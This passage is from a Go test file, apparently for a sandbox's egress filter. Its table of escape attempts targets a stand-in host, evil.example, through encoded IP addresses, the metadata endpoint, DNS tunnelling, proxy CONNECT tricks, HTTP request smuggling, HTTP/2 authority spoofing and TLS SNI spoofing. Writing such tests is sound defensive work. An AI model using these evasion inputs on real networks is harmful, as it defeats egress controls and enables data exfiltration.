package netpolicy

import (
	"bytes"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/miekg/dns"
	vnl "github.com/vishvananda/netlink"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sys/unix"
)

// A vector is a way that programs have tried to get out. It gives nil when it
// believes to have reached something. Whatever it must not reach has "evil" in its
// name or its bytes.
type vector struct {
	name    string
	try     func(p program) error
	blocked string // the one line that is told; "" where nothing has an address
	allowed bool   // it goes through example.com, so only a task that has that host tries
}

const evil = "evil.example"

func tcp(addr string) func(program) error {
	return func(p program) error {
		c, err := p.dial("tcp", addr)
		if err != nil {
			return err
		}
		_, err = says(c, "GET / HTTP/1.0\r\nHost: "+evil+"\r\n\r\n")
		return err
	}
}

func udp(addr string) func(program) error {
	return func(p program) error {
		c, err := p.dial("udp", addr)
		if err != nil {
			return err
		}
		_, err = c.Write([]byte("evil"))
		return err
	}
}

func question(network, server, name string, kind uint16) func(program) error {
	return func(p program) error {
		m, err := p.ask(network, server, name, kind)
		if err == nil && m.Rcode != dns.RcodeSuccess {
			err = errors.New(dns.RcodeToString[m.Rcode])
		}
		return err
	}
}

// message sends a name server whatever change makes of it.
func message(network string, change func(q *dns.Msg)) func(program) error {
	return func(p program) error {
		c, err := p.dial(network, netAddr+":53")
		if err != nil {
			return err
		}
		q := new(dns.Msg)
		q.Id = 1
		change(q)
		co := &dns.Conn{Conn: c}
		if err := co.WriteMsg(q); err != nil {
			return err
		}
		m, err := co.ReadMsg()
		if err == nil && m.Rcode != dns.RcodeSuccess {
			err = errors.New(dns.RcodeToString[m.Rcode])
		}
		return err
	}
}

// proxyTo says something to the proxy and then, when it took that, more.
func proxyTo(first string, then ...string) func(program) error {
	return func(p program) error {
		c, err := p.dial("tcp", fmt.Sprintf("127.0.0.1:%d", proxyPort))
		if err != nil {
			return err
		}
		if strings.HasPrefix(first, "CONNECT ") {
			if _, err := io.WriteString(c, first); err != nil {
				return err
			}
			if _, err := io.ReadFull(c, make([]byte, len(established200))); err != nil {
				return err
			}
			first = ""
		}
		out, err := says(c, append([]string{first}, then...)...)
		if err == nil && !strings.Contains(out, evil) {
			err = fmt.Errorf("ended: %q", out)
		}
		return err
	}
}

// again asks where a name leads, changes that, and connects to the address that it was
// given.
func again(name string, port uint16, to string) func(program) error {
	return func(p program) error {
		a, err := p.lookup(name, false)
		if err != nil {
			return err
		}
		theNet(p.t).name(name, to)
		return tcp(netip.AddrPortFrom(a, port).String())(p)
	}
}

// web says something to example.com's port 80.
func web(pieces ...string) func(program) error {
	return func(p program) error {
		c, err := p.connect("example.com", 80, false)
		if err != nil {
			p.t.Fatal("example.com itself is not reached: ", err)
		}
		out, err := says(c, pieces...)
		if err == nil && !strings.Contains(out, evil) {
			err = fmt.Errorf("ended: %q", out)
		}
		return err
	}
}

func proxy(head string) func(program) error {
	return func(p program) error {
		line, err := p.proxied(head)
		if err == nil && !strings.Contains(line, " 200 ") {
			err = errors.New(line)
		}
		return err
	}
}

func handshake(port uint16, cfg func() *tls.Config) func(program) error {
	return func(p program) error {
		c, err := p.connect("example.com", port, false)
		if err != nil {
			p.t.Fatal("example.com itself is not reached: ", err)
		}
		return p.hello(c, cfg())
	}
}

// h2 is what a client of cleartext HTTP/2 sends: raw frames behind the preface.
func h2(frames func(f *http2.Framer)) string {
	b := bytes.NewBufferString(http2.ClientPreface)
	f := http2.NewFramer(b, nil)
	f.AllowIllegalWrites = true
	f.WriteSettings() //nolint:errcheck // a buffer
	frames(f)
	return b.String()
}

// fields is a field block.
func fields(authority string, more ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	all := append([]string{":method", "GET", ":scheme", "http", ":path", "/"}, more...)
	if authority != "" {
		all = append([]string{":authority", authority}, all...)
	}
	for i := 0; i < len(all); i += 2 {
		e.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}) //nolint:errcheck // a buffer
	}
	return b.Bytes()
}

func headers(stream uint32, block []byte) http2.HeadersFrameParam {
	return http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: true, EndHeaders: true}
}

// abstractName is a socket of the machine that no program in a namespace may find.
const abstractName = "@gurtos-evil-test"

// hidden is a request that lies in another one's body, for a server that takes the
// body for shorter than the box does.
const hidden = "GET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"

var inChunk = fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(hidden), hidden)

const get = "GET / HTTP/1.1\r\nHost: example.com\r\n"

var vectors = []vector{
	{"literal v4", tcp(webAddr + ":80"), webAddr + ":80", false},
	{"literal v6", tcp("[" + webAddr6 + "]:80"), "[" + webAddr6 + "]:80", false},
	{"literal v4, ssh's port", tcp(webAddr + ":22"), webAddr + ":22", false},
	{"literal v4, port 1", tcp(webAddr + ":1"), webAddr + ":1", false},
	{"literal v4, port 65535", tcp(webAddr + ":65535"), webAddr + ":65535", false},
	{"DNS over TLS", tcp(netAddr + ":853"), netAddr + ":853", false},
	{"DNS over HTTPS", tcp(netAddr + ":443"), netAddr + ":443", false},
	{"a private network", tcp(lanAddr + ":80"), lanAddr + ":80", false},
	{"the uplink's own network", tcp(netAddr + ":80"), netAddr + ":80", false},
	{"the box", tcp(boxAddr + ":7700"), boxAddr + ":7700", false},
	{"the box v6", tcp("[2001:db8::2]:7700"), "[2001:db8::2]:7700", false},
	{"metadata", tcp(metaAddr + ":80"), metaAddr + ":80", false},
	{"metadata v6", tcp("[fd00:ec2::254]:80"), "[fd00:ec2::254]:80", false},
	{"unspecified v4 is the program's own loopback", tcp("0.0.0.0:80"), "", false},
	{"mapped form", tcp("[::ffff:" + webAddr + "]:80"), webAddr + ":80", false},
	{"NAT64 form", tcp("[64:ff9b::c000:222]:80"), webAddr + ":80", false},
	{"6to4 form", tcp("[2002:c000:222::1]:80"), webAddr + ":80", false},
	{"site-local v6", tcp("[fec0::1]:80"), "[fec0::1]:80", false},
	{"IPv4-compatible form", tcp("[::c000:222]:80"), "[::c000:222]:80", false},
	{"IPv4-translated form", tcp("[::ffff:0:c000:222]:80"), "[::ffff:0:c000:222]:80", false},
	{"Teredo form", tcp("[2001:0:c000:222::1]:80"), "[2001:0:c000:222::1]:80", false},
	{"local NAT64 form", tcp("[64:ff9b:1::c000:222]:80"), "[64:ff9b:1::c000:222]:80", false},
	{"a carrier's network", tcp("100.64.0.1:80"), "100.64.0.1:80", false},
	{"a home's network", tcp("192.168.1.1:80"), "192.168.1.1:80", false},
	{"a link-local address", tcp("169.254.1.1:80"), "169.254.1.1:80", false},
	{"a local v6 network", tcp("[fd12:3456::1]:80"), "[fd12:3456::1]:80", false},
	{"the box on another of its networks", tcp("10.9.9.1:7700"), "10.9.9.1:7700", false},
	{"a synthetic address of no name", tcp("198.18.9.9:80"), "198.18.9.9:80", false},
	{"a synthetic v6 address of no name", tcp("[fdb0:7057:6f73::9:9999]:80"), "[fdb0:7057:6f73::9:9999]:80", false},
	{"SCTP", func(p program) (err error) {
		p.inside(func() {
			var fd int
			if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP); err == nil {
				defer unix.Close(fd)
				err = unix.Connect(fd, &unix.SockaddrInet4{Port: 80, Addr: [4]byte{192, 0, 2, 34}})
			}
		})
		return err
	}, "", false},

	{"UDP v4", udp(netAddr + ":9999"), netAddr + ":9999", false},
	{"UDP v6", udp("[2001:db8::1]:9999"), "[2001:db8::1]:9999", false},
	{"QUIC", udp(webAddr + ":443"), webAddr + ":443", false},
	{"QUIC v6", udp("[" + webAddr6 + "]:443"), "[" + webAddr6 + "]:443", false},
	{"NTP", udp(netAddr + ":123"), netAddr + ":123", false},
	{"multicast", func(p program) error {
		var c net.PacketConn
		var err error
		p.inside(func() { c, err = net.ListenPacket("udp4", "0.0.0.0:0") })
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = c.WriteTo([]byte("evil"), &net.UDPAddr{IP: net.IPv4(224, 0, 0, 251), Port: 5353})
		return err
	}, "224.0.0.251:5353", false},
	{"multicast v6", udp("[ff05::fb]:5353"), "[ff05::fb]:5353", false},
	{"broadcast", func(p program) (err error) {
		p.inside(func() {
			var fd int
			if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0); err == nil {
				defer unix.Close(fd)
				err = errors.Join(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1),
					unix.Sendto(fd, []byte("evil"), 0, &unix.SockaddrInet4{Port: 9999, Addr: [4]byte{255, 255, 255, 255}}))
			}
		})
		return err
	}, "255.255.255.255:9999", false},
	{"a TCP SYN with data, fast open", func(p program) (err error) {
		p.inside(func() {
			var fd int
			if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0); err == nil {
				defer unix.Close(fd)
				if err = unix.Sendto(fd, []byte("evil"), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: 80, Addr: [4]byte{192, 0, 2, 34}}); err == nil {
					_, err = unix.Read(fd, make([]byte, 1))
				}
			}
		})
		return err
	}, webAddr + ":80", false},

	{"another resolver over UDP", question("udp", netAddr+":53", evil, dns.TypeA), evil + ":53", false},
	{"another resolver over TCP", question("tcp", netAddr+":53", evil, dns.TypeA), evil + ":53", false},
	{"another resolver over v6", question("udp", "[2001:db8::1]:53", evil, dns.TypeAAAA), evil + ":53", false},
	{"another resolver over TCP and v6", question("tcp", "[2001:db8::1]:53", evil, dns.TypeAAAA), evil + ":53", false},
	{"a tunnel of long labels", question("udp", netAddr+":53", strings.Repeat("a", 60)+"."+strings.Repeat("b", 60)+".evil.example", dns.TypeTXT), strings.Repeat("a", 60) + "." + strings.Repeat("b", 60) + ".evil.example:53", false},
	{"a tunnel of NULL records", question("udp", netAddr+":53", "x."+evil, dns.TypeNULL), "x." + evil + ":53", false},
	{"ANY", question("tcp", netAddr+":53", evil, dns.TypeANY), evil + ":53", false},
	{"HTTPS records", question("udp", netAddr+":53", evil, dns.TypeHTTPS), evil + ":53", false},
	{"a zone transfer", question("tcp", netAddr+":53", evil, dns.TypeAXFR), evil + ":53", false},
	{"a name that begins with an allowed one", question("udp", netAddr+":53", "example.com."+evil, dns.TypeA), "example.com." + evil + ":53", false},
	{"a name that ends with an allowed one", question("udp", netAddr+":53", "evil-example.com", dns.TypeA), "evil-example.com:53", false},
	{"a name below an allowed one", question("udp", netAddr+":53", "evil.example.com", dns.TypeA), "evil.example.com:53", false},
	{"a name as long as names can be", question("udp", netAddr+":53", strings.Repeat(strings.Repeat("a", 60)+".", 3)+strings.Repeat("b", 57)+"."+evil, dns.TypeA), strings.Repeat(strings.Repeat("a", 60)+".", 3) + strings.Repeat("b", 57) + "." + evil + ":53", false},
	{"a name in capitals", question("udp", netAddr+":53", "EVIL.Example", dns.TypeA), evil + ":53", false},
	{"a name in another script's letters", question("udp", netAddr+":53", "xn--exmple-cua.com", dns.TypeA), "xn--exmple-cua.com:53", false},
	{"a dynamic update", message("tcp", func(q *dns.Msg) {
		q.SetUpdate("example.com.")
		q.Insert([]dns.RR{&dns.TXT{Hdr: dns.RR_Header{Name: "x.example.com.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{"evil"}}})
	}), "", false},
	{"a notification", message("udp", func(q *dns.Msg) { q.SetNotify(evil + ".") }), "", false},
	{"no question at all", message("udp", func(q *dns.Msg) { q.Question = nil }), "", false},
	{"another version of EDNS", message("udp", func(q *dns.Msg) {
		q.SetQuestion("localhost.", dns.TypeA)
		q.SetEdns0(4096, false)
		q.IsEdns0().SetVersion(7)
	}), "", false},
	{"a name with an escaped dot", question("udp", netAddr+":53", `evil\.example.com`, dns.TypeA), `evil\.example.com:53`, false},
	{"a question of another class", message("udp", func(q *dns.Msg) {
		q.SetQuestion(evil+".", dns.TypeTXT)
		q.Question[0].Qclass = dns.ClassCHAOS
	}), "", false},

	{"an abstract socket of the machine", func(p program) (err error) {
		p.inside(func() {
			var c net.Conn
			if c, err = net.Dial("unix", abstractName); err == nil {
				c.Close()
			}
		})
		return err
	}, "", false},

	{"CONNECT to an address", proxy("CONNECT " + webAddr + ":443 HTTP/1.1\r\nHost: " + webAddr + ":443\r\n\r\n"), webAddr + ":443", false},
	{"CONNECT to an address v6", proxy("CONNECT [" + webAddr6 + "]:443 HTTP/1.1\r\n\r\n"), "[" + webAddr6 + "]:443", false},
	{"CONNECT to the box", proxy("CONNECT 127.0.0.1:7700 HTTP/1.1\r\n\r\n"), "127.0.0.1:7700", false},
	{"CONNECT to localhost", proxy("CONNECT localhost:7700 HTTP/1.1\r\n\r\n"), "localhost:7700", false},
	{"CONNECT to a name", proxy("CONNECT " + evil + ":443 HTTP/1.1\r\nHost: example.com\r\n\r\n"), evil + ":443", false},
	{"CONNECT with a short address", proxy("CONNECT 0x7f.1:7700 HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with a number", proxy("CONNECT 2130706433:7700 HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with a zero port", proxy("CONNECT example.com:0 HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with a port that is none", proxy("CONNECT example.com:65616 HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with a signed port", proxy("CONNECT example.com:+443 HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with zeros before its port", proxy("CONNECT " + evil + ":000443 HTTP/1.1\r\n\r\n"), evil + ":443", false},
	{"CONNECT without a port", proxy("CONNECT " + evil + " HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with two ports", proxy("CONNECT example.com:443:" + evil + ":443 HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT with a URI", proxy("CONNECT http://" + evil + ":443/ HTTP/1.1\r\n\r\n"), "", false},
	{"CONNECT to a mapped address", proxy("CONNECT [::ffff:" + webAddr + "]:443 HTTP/1.1\r\n\r\n"), webAddr + ":443", false},
	{"CONNECT to the box by its address", proxy("CONNECT " + boxAddr + ":7700 HTTP/1.1\r\n\r\n"), boxAddr + ":7700", false},
	{"CONNECT in capitals with a dot", proxy("CONNECT EVIL.Example.:443 HTTP/1.1\r\n\r\n"), evil + ":443", false},
	{"a folded field to the proxy", proxy("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n  " + evil + "\r\n\r\n"), "", false},
	{"HTTP/2 to the proxy", proxy(h2(func(f *http2.Framer) {
		f.WriteHeaders(headers(1, fields(evil+":443", ":method", "CONNECT"))) //nolint:errcheck // a buffer
	})), "", false},
	{"a proxied request of https", proxy("GET https://" + evil + "/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), "", false},
	{"CONNECT to a user", proxy("CONNECT example.com@" + evil + ":443 HTTP/1.1\r\n\r\n"), "", false},
	{"a proxied request", proxy("GET http://" + evil + "/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), evil + ":80", false},
	{"a proxied request to an address", proxy("GET http://" + webAddr + "/ HTTP/1.1\r\nHost: " + webAddr + "\r\n\r\n"), webAddr + ":80", false},
	{"a proxied request with a user", proxy("GET http://example.com@" + evil + "/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), "", false},
	{"a proxied request without HTTP's name", proxy("GET http://example.com/ EVIL\r\nHost: " + evil + "\r\n\r\n"), "", false},

	{"another Host", web("GET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"another Host, piece by piece", web("G", "ET / HTTP/1.1\r\n", "Ho", "st: "+evil+"\r\n\r", "\n"), "example.com:80", true},
	{"another port in Host", web("GET / HTTP/1.1\r\nHost: example.com:81\r\nX: evil\r\n\r\n"), "example.com:80", true},
	{"two Hosts", web(get + "Host: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a Host with a space before its colon", web("GET / HTTP/1.1\r\nHost : " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a Host with a space, the second", web(get + "Host : " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a folded Host", web("GET / HTTP/1.1\r\nHost:\r\n " + evil + "\r\n\r\n"), "example.com:80", true},
	{"no Host in HTTP/1.1", web("GET /evil.example HTTP/1.1\r\n\r\n"), "example.com:80", true},
	{"absolute form", web("GET http://" + evil + "/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), "example.com:80", true},
	{"absolute form with a user", web("GET http://example.com@" + evil + "/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), "example.com:80", true},
	{"absolute form of https", web("GET https://" + evil + "/ HTTP/1.1\r\nHost: example.com\r\n\r\n"), "example.com:80", true},
	{"CONNECT to a web server", web("CONNECT " + evil + ":443 HTTP/1.1\r\nHost: example.com\r\n\r\n"), "example.com:80", true},
	{"CONNECT with a path", web("CONNECT / HTTP/1.1\r\nHost: example.com\r\nX: evil\r\n\r\n"), "example.com:80", true},
	{"a space in front", web(" GET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a space in front, on its own", web(" ", "GET / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"empty lines in front", web("\r\n\r\nGET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"many empty lines in front", web(strings.Repeat("\r\n", 200) + "GET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a long method", web(strings.Repeat("X", 70), " / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"lower case", web("get / http/1.1\r\nhost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a version of its own", web("GET / HTTP/1.9\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"line ends without CR", web("GET / HTTP/1.1\nHost: " + evil + "\n\n"), "example.com:80", true},
	{"CR alone", web("GET / HTTP/1.1\rHost: " + evil + "\r\r\r\n\r\n"), "example.com:80", true},
	{"CR alone, and never LF", web("GET / HTTP/1.1\rHost: " + evil + "\r\r"), "example.com:80", true},
	{"CR alone, and LF later", web("GET / HTTP/1.1\rHost: "+evil, "\r\rx"), "example.com:80", true},
	{"CR alone in a later line", web(get + "X: y\rHost: " + evil + "\r\r"), "example.com:80", true},
	{"a version behind CR alone", web("GET /\rX HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"CR between its words, piece by piece", web("GET\r/", " HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"CR between its words, and no version", web("GET\r/", "\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"no version", web("GET /\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"no version, piece by piece", web("GE", "T /", "\r\n", "Host: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"no version, and another host", web("GET http://" + evil + "/\r\n"), "example.com:80", true},
	{"no version, behind tabs and without CR", web("\tHEAD\t/\nHost: " + evil + "\n\n"), "example.com:80", true},
	{"no version, and words", web("POST / x y\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a zero byte", web("GET / HTTP/1.1\r\nHost: example.com\x00" + evil + "\r\n\r\n"), "example.com:80", true},
	{"a zero byte in the first line", web("GET /\x00 HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a first line without end", web("GET /"+strings.Repeat("x", 40<<10), " HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"a head without end", web(get + strings.Repeat("X: "+strings.Repeat("x", 1000)+"\r\n", 70) + "Y: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"keep-alive with a second Host", web(get+"\r\n", "GET / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"a second request in one packet", web(get + "\r\nGET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a length and chunks", web("POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n" + inChunk), "example.com:80", true},
	{"two lengths", web(fmt.Sprintf("POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: %d\r\nContent-Length: 0\r\n\r\n%s", len(hidden), hidden)), "example.com:80", true},
	{"a length with a sign", web("POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: +0\r\n\r\nGET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"an odd transfer coding", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: xchunked\r\n\r\n" + inChunk), "example.com:80", true},
	{"two transfer codings", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + inChunk), "example.com:80", true},
	{"chunks in HTTP/1.0", web("POST / HTTP/1.0\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n" + inChunk), "example.com:80", true},
	{"a chunk with an odd size", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\nGET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a chunk's line without CR", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n0\n\nGET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"an upgrade that is not answered", web(get+"Connection: upgrade\r\nUpgrade: websocket\r\n\r\n", "GET / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"an upgrade of a proxied connection", func(p program) error {
		c, err := p.dial("tcp", fmt.Sprintf("127.0.0.1:%d", proxyPort))
		if err != nil {
			return err
		}
		out, err := says(c, "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", "GET http://"+evil+"/ HTTP/1.1\r\nHost: "+evil+"\r\n\r\n")
		if err == nil && !strings.Contains(out, evil) {
			err = errors.New(out)
		}
		return err
	}, "example.com:80", true},

	{"a proxied request with another Host", proxyTo("GET http://example.com/ HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a proxied request with two Hosts", proxyTo("GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},
	{"a proxied request, and a second for another", proxyTo("GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n", "GET http://"+evil+"/ HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"a proxied request with a length and chunks", proxyTo("POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n" + inChunk), "example.com:80", true},
	{"a proxied request with a coding in two words", proxyTo("POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: identity, chunked\r\n\r\n" + inChunk), "example.com:80", true},
	{"CONNECT and another Host", proxyTo("CONNECT example.com:80 HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"CONNECT and HTTP/2 for another", proxyTo("CONNECT example.com:80 HTTP/1.1\r\n\r\n", h2(func(f *http2.Framer) { f.WriteHeaders(headers(1, fields(evil))) })), "example.com:80", true}, //nolint:errcheck // a buffer
	{"CONNECT and another connection's head", proxyTo("CONNECT example.com:80 HTTP/1.1\r\n\r\n", "PROXY TCP4 192.0.2.1 192.0.2.34 1 80\r\n", "GET / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"), "example.com:80", true},
	{"a transfer coding with a tab", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding:\tx\tchunked\r\n\r\n" + inChunk), "example.com:80", true},
	{"a transfer coding with a space before its colon", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n" + inChunk), "example.com:80", true},
	{"a folded transfer coding", web("POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: 0\r\n\r\n" + inChunk), "example.com:80", true},

	{"HTTP/2 for another authority", web(h2(func(f *http2.Framer) { f.WriteHeaders(headers(1, fields(evil))) })), "example.com:80", true},                                   //nolint:errcheck // a buffer
	{"HTTP/2 with another host field", web(h2(func(f *http2.Framer) { f.WriteHeaders(headers(1, fields("", "host", evil))) })), "example.com:80", true},                     //nolint:errcheck // a buffer
	{"HTTP/2 with a host beside the authority", web(h2(func(f *http2.Framer) { f.WriteHeaders(headers(1, fields("example.com", "host", evil))) })), "example.com:80", true}, //nolint:errcheck // a buffer
	{"HTTP/2 with a whole URI as its path", web(h2(func(f *http2.Framer) {
		f.WriteHeaders(headers(1, fields("example.com", ":path", "http://"+evil+"/"))) //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/2, the second request for another", web(h2(func(f *http2.Framer) {
		f.WriteHeaders(headers(1, fields("example.com"))) //nolint:errcheck // a buffer
		f.WriteHeaders(headers(3, fields(evil)))          //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/2 with the authority in a continuation", web(h2(func(f *http2.Framer) {
		b := fields(evil)
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b[:2], EndStream: true}) //nolint:errcheck // a buffer
		f.WriteContinuation(1, true, b[2:])                                                         //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/2 with padding and priority", web(h2(func(f *http2.Framer) {
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(evil), EndStream: true, EndHeaders: true, PadLength: 7, Priority: http2.PriorityParam{Weight: 3}}) //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/2 with another frame within the fields", web(h2(func(f *http2.Framer) {
		b := fields("example.com", "x", evil)
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b[:2], EndStream: true}) //nolint:errcheck // a buffer
		f.WritePing(false, [8]byte{})                                                               //nolint:errcheck // a buffer
		f.WriteContinuation(1, true, b[2:])                                                         //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/2 with a server's frame", web(h2(func(f *http2.Framer) {
		f.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: fields(evil), EndHeaders: true}) //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/2 asked to connect onwards", web(h2(func(f *http2.Framer) {
		f.WriteHeaders(headers(1, fields("example.com", ":method", "CONNECT", "x", evil))) //nolint:errcheck // a buffer
	})), "example.com:80", true},
	{"HTTP/1 behind HTTP/2's preface", web(http2.ClientPreface + "GET / HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"), "example.com:80", true},

	{"another SNI", handshake(443, func() *tls.Config { return &tls.Config{ServerName: evil, InsecureSkipVerify: true} }), "example.com:443", true},                         //nolint:gosec // it must not get that far
	{"another SNI on another port", handshake(80, func() *tls.Config { return &tls.Config{ServerName: evil, InsecureSkipVerify: true} }), "example.com:80", true},           //nolint:gosec // the same
	{"an SNI below the name", handshake(443, func() *tls.Config { return &tls.Config{ServerName: "evil.example.com", InsecureSkipVerify: true} }), "example.com:443", true}, //nolint:gosec // the same
	{"encrypted hello with another outer name", handshake(443, func() *tls.Config {
		return &tls.Config{ServerName: "example.com", MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: echList(evil)}
	}), "example.com:443", true},
	{"a hello in two records", func(p program) error {
		c, err := p.connect("example.com", 443, false)
		if err != nil {
			return err
		}
		rec := &splitter{Conn: c}
		return p.hello(rec, &tls.Config{ServerName: evil, InsecureSkipVerify: true}) //nolint:gosec // it must not get that far
	}, "example.com:443", true},
	{"a hello, byte by byte", func(p program) error {
		c, err := p.connect("example.com", 443, false)
		if err != nil {
			return err
		}
		_, err = says(c, strings.Split(string(helloWith(evil, nil)), "")...)
		return err
	}, "example.com:443", true},
	{"a hello with two names", hello("example.com", func(e []extension) []extension {
		return append(e, extension{0, nameList("example.com", evil)})[1:]
	}), "example.com:443", true},
	{"a hello with two lists of names", hello("example.com", func(e []extension) []extension {
		return append(e, extension{0, nameList(evil)})
	}), "example.com:443", true},
	{"a hello with a name that ends early", hello("example.com", func(e []extension) []extension {
		return append(e, extension{0, nameList("example.com\x00." + evil)})[1:]
	}), "example.com:443", true},
	{"a hello with another name in capitals", hello("EVIL.Example", nil), "example.com:443", true},
	{"a hello with another name and a dot", hello("example.com", func(e []extension) []extension {
		return append(e, extension{0, nameList(evil + ".")})[1:]
	}), "example.com:443", true},
	{"a hello that can't be read", web("\x16\x03\x01\x00\x10\x01\x00\x00\x0cevilevilevil"), "example.com:80", true},
	{"CONNECT and another SNI", func(p program) error {
		c, err := p.dial("tcp", fmt.Sprintf("127.0.0.1:%d", proxyPort))
		if err != nil {
			return err
		}
		if _, err := fmt.Fprint(c, "CONNECT example.com:443 HTTP/1.1\r\n\r\n"); err != nil {
			return err
		}
		b := make([]byte, len(established200))
		if _, err := c.Read(b); err != nil {
			return err
		}
		return p.hello(c, &tls.Config{ServerName: evil, InsecureSkipVerify: true}) //nolint:gosec // it must not get that far
	}, "example.com:443", true},
	{"a port that the rule does not name", func(p program) error {
		c, err := p.connect("ported.example.com", 80, false)
		if err != nil {
			return err
		}
		_, err = says(c, "GET / HTTP/1.0\r\nX: evil\r\n\r\n")
		return err
	}, "ported.example.com:80", true},
	{"a name that leads to the box", tcpName("box.example.com", 7700), "box.example.com:7700", true},
	{"an exact rule that leads to the box", tcpName("exact.example.com", 7700), "exact.example.com:7700", true},
